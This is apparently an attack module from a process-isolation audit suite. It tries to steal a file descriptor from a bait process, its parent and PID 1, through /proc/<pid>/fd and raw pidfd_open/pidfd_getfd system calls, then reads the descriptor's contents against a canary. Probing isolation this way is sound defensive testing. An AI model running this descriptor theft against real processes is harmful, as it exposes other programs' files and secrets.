# mypy: ignore-errors
"""Takes descriptors out of the driver, through /proc and by pidfd_getfd."""

import os

from adrs.audit.attacks.kit import read, steal, system_call

WITNESS = "canary"
BARE = True


def attack(bait):
    for pid in (bait["pid"], os.getppid(), 1):
        steal(f"/proc/{pid}/fd", lambda pid=pid: read(f"/proc/{pid}/fd/{bait['fd']}"))
        steal(f"pidfd_getfd {pid}", lambda pid=pid: _copied(pid, bait["fd"]))


def _copied(pid, fd):
    handle = system_call(434, 434, pid, 0)
    return os.pread(system_call(438, 438, handle, fd, 0), 4096, 0)
